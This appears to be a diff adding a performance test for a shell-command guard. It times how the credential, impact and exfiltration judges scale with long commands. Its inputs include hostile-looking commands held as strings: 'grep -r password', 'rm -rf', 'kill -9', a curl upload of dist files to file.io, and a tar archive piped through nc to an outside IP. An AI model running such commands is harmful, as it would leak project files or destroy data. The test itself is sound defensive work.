@@ -1,0 +1,65 @@
+"""The credentials, impact and exfiltration judges are linear in the command (issue 11.1's rule).
+
+Each shape feeds one judge the input it loops over (arguments, statements,
+downloads, substitutions); ten times the input must cost about ten times as
+much, not a hundred.
+"""
+
+from __future__ import annotations
+
+import gc
+import time
+from collections.abc import Callable, Iterator
+
+import pytest
+
+from agentbus.guards import budget
+from agentbus.guards.judge import judge_command
+
+HOME = "/home/me"
+
+
+@pytest.fixture(autouse=True)
+def _generous_budget() -> Iterator[None]:
+    budget.configure(600)  # this test measures the work, not the deadline
+    yield
+    budget.configure(None)
+
+
+def _cost(text: str) -> float:
+    """The best of five uncached runs, without the garbage collector: the least disturbed by other work."""
+    best = float("inf")
+    gc.collect()
+    gc.disable()
+    try:
+        for _ in range(5):
+            started = time.perf_counter()
+            judge_command(text, home=HOME)
+            best = min(best, time.perf_counter() - started)
+    finally:
+        gc.enable()
+    return best
+
+
+SHAPES: dict[str, Callable[[int], str]] = {
+    "grep over many places": lambda n: "grep -r password" + " src/x" * (n // 6),
+    "find with many tests": lambda n: "find ." + " -name x.txt" * (n // 11),
+    "many URLs": lambda n: "curl" + " http://a.example/" * (n // 17),
+    "kill many PIDs": lambda n: "kill -9" + " 1234" * (n // 5),
+    "rm many project files": lambda n: "rm -rf" + " build/x" * (n // 8),
+    "many downloads, then many commands": lambda n: (
+        "curl -o /tmp/x https://e.example/x; " * (n // 72) + "ls -l; " * (n // 14)
+    ),
+    "many form fields": lambda n: "curl" + " -F a=@dist/x" * (n // 13) + " https://file.io",
+    "a long pipeline of copies": lambda n: "tar cz dist" + " | cat" * (n // 60) + " | nc 203.0.113.7 443",
+    "many substitutions in a name": lambda n: "dig " + "$(seq 1 2)." * (n // 11) + "example",
+}
+
+
+@pytest.mark.parametrize("shape", SHAPES, ids=list(SHAPES))
+def test_each_tactic_judge_is_linear_in_the_command(shape: str) -> None:
+    make = SHAPES[shape]
+    small, large = make(2_000), make(20_000)
+    judge_command(small, home=HOME)  # warm up: imports, caches of the parser
+    ratio = _cost(large) / max(_cost(small), 1e-6)
+    assert ratio < 50, f"{shape}: 10x the input cost {ratio:.0f}x"  # linear ~10, quadratic ~100
